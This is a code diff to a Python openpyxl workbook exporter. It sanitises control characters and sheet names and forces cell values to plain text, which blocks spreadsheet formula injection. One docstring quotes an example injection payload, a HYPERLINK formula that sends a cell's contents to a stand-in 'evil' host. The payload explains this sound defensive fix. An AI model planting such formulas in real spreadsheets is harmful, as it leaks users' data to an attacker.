@@ -10,6 +10,7 @@ from dataclasses import dataclass, field
 from typing import Any
 
 from openpyxl import Workbook
+from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 from openpyxl.styles import Alignment, Border, Font, Side
 from openpyxl.utils import get_column_letter
 from openpyxl.worksheet.worksheet import Worksheet
@@ -49,28 +50,45 @@ class Paper:
     rows: int
 
 
+def _safe(value: Any) -> Any:
+    """Stored text as a cell can hold it: characters XML cannot carry (a bell, NUL, escapes)
+    left out, so no name typed years ago can make a paper fail."""
+    return ILLEGAL_CHARACTERS_RE.sub("", value) if isinstance(value, str) else value
+
+
+def _append(sheet: Worksheet, values: Sequence[Any]) -> None:
+    """A row whose text is always text. openpyxl writes a string that starts with "=" as a live
+    formula; a villager's note reading =HYPERLINK("http://evil/?x="&A1) must reach the town as
+    the words it is (OWASP, CSV injection: = + - @ tab CR). A string cell is never evaluated,
+    and the value stays what was typed, so an exported roster imports back unchanged."""
+    sheet.append([_safe(v) for v in values])
+    for cell in sheet[sheet.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
+
+
 def _draw(sheet: Worksheet, spec: Sheet) -> None:
     width = max(len(spec.columns), 1)
     last = get_column_letter(width)
-    sheet.title = spec.name[:31]  # Excel's limit on a tab's name
-    sheet.append([spec.title])
+    sheet.title = _tab_name(spec.name)
+    _append(sheet, [spec.title])
     sheet.merge_cells(f"A1:{last}1")
     sheet["A1"].font = Font(bold=True, size=16)
     sheet["A1"].alignment = Alignment(horizontal="center", vertical="center")
     sheet.row_dimensions[1].height = 30
     for line in spec.lines:
-        sheet.append([line])
+        _append(sheet, [line])
         sheet.merge_cells(
             start_row=sheet.max_row, start_column=1, end_row=sheet.max_row, end_column=width
         )
     header_row = sheet.max_row + 1
-    sheet.append([c.header for c in spec.columns])
+    _append(sheet, [c.header for c in spec.columns])
     for cell in sheet[header_row]:
         cell.font = Font(bold=True)
         cell.border = _BOX
         cell.alignment = Alignment(horizontal="center", vertical="center", wrap_text=True)
     for row in spec.rows:
-        sheet.append(row)
+        _append(sheet, row)
         for cell, column in zip(sheet[sheet.max_row], spec.columns, strict=False):
             cell.border = _BOX
             if column.text:
@@ -79,7 +97,7 @@ def _draw(sheet: Worksheet, spec: Sheet) -> None:
         sheet.column_dimensions[get_column_letter(index)].width = column.width
     if spec.signed:
         sheet.append([])
-        sheet.append([SIGNATURE])
+        _append(sheet, [SIGNATURE])
         sheet.merge_cells(
             start_row=sheet.max_row, start_column=1, end_row=sheet.max_row, end_column=width
         )
@@ -95,6 +113,14 @@ def _draw(sheet: Worksheet, spec: Sheet) -> None:
     sheet.sheet_properties.pageSetUpPr.fitToPage = True
     sheet.print_options.horizontalCentered = True
     sheet.oddFooter.center.text = "第 &P 页，共 &N 页"
+
+
+_TAB_UNSAFE = str.maketrans({c: "_" for c in "\\/:*?[]"})
+
+
+def _tab_name(name: str) -> str:
+    """Excel's rules for a tab: 31 characters, none of \\ / : * ? [ ], no control characters."""
+    return _safe(name).translate(_TAB_UNSAFE)[:31] or "Sheet"
 
 
 def workbook(sheets: Sequence[Sheet]) -> bytes:
